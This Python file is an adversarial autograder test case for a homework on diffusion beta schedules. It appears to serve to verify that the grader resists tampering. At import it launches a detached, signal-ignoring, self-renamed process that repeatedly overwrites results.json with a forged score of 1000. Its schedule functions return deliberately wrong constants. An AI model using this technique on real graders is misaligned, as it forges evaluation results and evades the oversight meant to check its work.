"""Attack: a background process, started at import, that outlives the case and keeps
rewriting ROOT/results/results.json (every 0.2 s, for at most 150 s), so that it would
win the race after the grader has written its own results.

The process inherits the case's stdout and stderr (a grader that waits for end of file
on them would wait for it), ignores SIGTERM/SIGHUP/SIGINT, and names itself hw4atk-bg.
Expected: it is killed when the case ends; the schedules score 0; results.json is the
grader's; no process of the sandbox user is left.
"""
import subprocess
import sys

_HW4_ROOT = "@@AUTOGRADER_ROOT@@"
_HW4_SLEEPER = r'''
import ctypes, json, os, signal, time
try:
    ctypes.CDLL(None).prctl(15, b"hw4atk-bg", 0, 0, 0)
except Exception:
    pass
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(sig, signal.SIG_IGN)
target = os.path.join(ROOT, "results", "results.json")
text = json.dumps({"score": 1000.0, "output": "HW4 attack: forged by a background process",
                   "tests": [{"name": "linear_beta_schedule: forged", "score": 1000.0, "max_score": 1.0,
                              "status": "passed"}]})
end = time.monotonic() + 150.0
while time.monotonic() < end:
    try:
        with open(target, "w") as handle:
            handle.write(text)
    except OSError:
        pass
    time.sleep(0.2)
'''

try:
    subprocess.Popen([sys.executable, "-I", "-c", f"ROOT = {_HW4_ROOT!r}\n" + _HW4_SLEEPER],
                     stdin=subprocess.DEVNULL, start_new_session=True)
except OSError:
    pass


def linear_beta_schedule(timesteps, beta_start=1e-4, beta_end=0.02):
    import torch
    return torch.full((timesteps,), 0.5)


def cosine_beta_schedule(timesteps, s=0.008):
    import torch
    return torch.full((timesteps,), 0.5)
